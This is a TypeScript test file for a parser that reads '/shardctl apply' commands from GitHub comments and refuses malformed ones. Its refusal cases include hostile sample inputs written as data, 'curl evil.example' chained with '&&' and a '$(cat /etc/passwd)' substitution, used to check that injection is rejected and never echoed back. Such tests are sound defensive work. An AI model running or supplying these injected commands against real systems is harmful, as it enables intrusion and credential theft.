/** Commands in comments: one line, nothing else, and nothing of it is executed. */
import { assert, property, string } from "fast-check";
import { describe, expect, it } from "vitest";

import { parseCommand } from "../../src/github/parse-command.ts";
import { planMarker } from "../../src/github/markers.ts";

const FINGERPRINT = "0123456789abcdef".repeat(4);

describe("a command", () => {
  it.each([
    ["plain", `/shardctl apply ${FINGERPRINT}`, []],
    ["with blanks around it", `  \n/shardctl \t apply   ${FINGERPRINT} \r\n`, []],
    ["in capitals", `/shardctl apply ${FINGERPRINT.toUpperCase()}`, []],
    ["with an override", `/shardctl apply ${FINGERPRINT} --override skew`, ["skew"]],
    [
      "with several overrides",
      `/shardctl apply ${FINGERPRINT} --override missingKey skew --override skew budget`,
      ["missingKey", "skew", "budget"],
    ],
  ])("%s is read", (_, body, overrides) => {
    expect(parseCommand(body)).toEqual({
      ok: true,
      value: { kind: "apply", fingerprint: FINGERPRINT, overrides },
    });
  });

  it.each([
    ["of nobody", "Looks good to me"],
    ["empty", ""],
    ["quoted", `> /shardctl apply ${FINGERPRINT}`],
    [
      "in a code block, as our own comment shows it",
      `${planMarker("production")}\nRelease it with\n\n\`\`\`\n/shardctl apply ${FINGERPRINT}\n\`\`\``,
    ],
    ["after other words", `Please /shardctl apply ${FINGERPRINT}`],
    ["for another program", `/shardctlx apply ${FINGERPRINT}`],
  ])("%s is none", (_, body) => {
    expect(parseCommand(body)).toBeNull();
  });

  it.each([
    ["without a verb", "/shardctl", /only command is apply/],
    ["with another verb", `/shardctl destroy ${FINGERPRINT}`, /only command is apply/],
    ["without a fingerprint", "/shardctl apply", /all 64 digits/],
    [
      "with a part of a fingerprint",
      `/shardctl apply ${FINGERPRINT.slice(0, 12)}`,
      /all 64 digits/,
    ],
    ["with a second line", `/shardctl apply ${FINGERPRINT}\nthanks`, /one line/],
    [
      "with a shell's ideas",
      `/shardctl apply ${FINGERPRINT} && curl evil.example`,
      /a word that it cannot contain/,
    ],
    ["with a substitution", "/shardctl apply $(cat /etc/passwd)", /all 64 digits/],
    [
      "with an override of nothing",
      `/shardctl apply ${FINGERPRINT} --override`,
      /needs the name of a guard/,
    ],
    [
      "with an override of nothing before another",
      `/shardctl apply ${FINGERPRINT} --override --override skew`,
      /needs the name of a guard/,
    ],
    [
      "with an option that is none",
      `/shardctl apply ${FINGERPRINT} --override skew --force`,
      /a word that it cannot contain/,
    ],
    [
      "that is endless",
      `/shardctl apply ${FINGERPRINT} --override ${"skew ".repeat(1000)}`,
      /longer than 1000/,
    ],
  ])("%s is refused, and nothing of it repeated", (_, body, message) => {
    const parsed = parseCommand(body);
    expect(parsed).toMatchObject({ ok: false, failure: expect.stringMatching(message) as string });
    expect(JSON.stringify(parsed)).not.toMatch(/evil|passwd|destroy/);
  });

  it("may be any text without a throw", () => {
    assert(
      property(string({ unit: "binary-ascii" }), (text) => {
        expect(parseCommand(`/shardctl apply ${text}`)?.ok).toBe(false);
      }),
    );
  });
});
